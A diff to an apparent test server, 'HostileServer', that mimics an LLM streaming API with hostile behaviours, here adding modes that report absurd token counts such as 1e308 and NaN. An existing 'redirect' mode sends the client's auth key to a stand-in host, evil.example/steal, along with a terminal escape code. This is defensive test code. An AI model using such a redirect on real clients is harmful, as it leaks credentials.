@@ -12,6 +12,9 @@ What a POST gets depends on the prompt's first word (or the request's shape):
   issue's exact body (:data:`ISSUE_BODY`; ``issue_probe``: the dialect probe gets it too);
 * ``transport``: a chunk size line that is the key (a framing error);
 * ``redirect``: HTTP 302 to another host, the key in the ``Location``;
+* ``usage=N``: four chunks of text ``hi`` whose usage says ``N`` output tokens (``N`` as written
+  into the JSON: ``1e12``, ``1e30``, ``1e308``, ``NaN``); ``usage+N``: cumulative usage that grows by
+  ``N`` a chunk (``continuous_usage_stats`` as vLLM sends it);
 * ``hang``: reads the request and never answers (``hang_probe``: the probe too); ``slow``: the head,
   then the body one byte every ``slow_s`` (``slow_probe``: the probe too).
 
@@ -37,6 +40,19 @@ def _sse(*events: bytes) -> bytes:
 def _ok_chunk() -> bytes:
     return b'data: {"choices":[{"text":"hi","finish_reason":"length"}],"usage":{"completion_tokens":1,"prompt_tokens":1}}\n\n' \
         b"data: [DONE]\n\n"
+
+
+def _usage_stream(n: str, cumulative: bool) -> bytes:
+    """Four chunks of ``hi``: usage ``n`` (JSON number text) in a last usage-only chunk, or, cumulative,
+    ``k x n`` in chunk k (``n`` of the form ``1eX``: ``keX``)."""
+    out = []
+    for k in range(1, 5):
+        fin = '"length"' if k == 4 else "null"
+        usage = f',"usage":{{"prompt_tokens":1,"completion_tokens":{k}{n[1:]}}}' if cumulative else ""
+        out.append(f'data: {{"choices":[{{"text":"hi","finish_reason":{fin}}}]{usage}}}\n\n'.encode())
+    if not cumulative:
+        out.append(f'data: {{"choices":[],"usage":{{"prompt_tokens":1,"completion_tokens":{n}}}}}\n\n'.encode())
+    return b"".join(out) + b"data: [DONE]\n\n"
 
 
 class HostileServer:
@@ -136,6 +152,8 @@ class HostileServer:
         if word == "redirect":
             loc = f"http://evil.example/steal?k={auth.replace(' ', '+')}&x=\x1b[2J"
             return self._reply(conn, 302, b"moved", extra=f"Location: {loc}\r\n".encode("latin-1"))
+        if word.startswith(("usage=", "usage+")):
+            return self._reply(conn, 200, _usage_stream(word[6:], cumulative=word[5] == "+"), sse=True)
         if word == "hang":
             return self._hang(conn)
         if word == "slow":
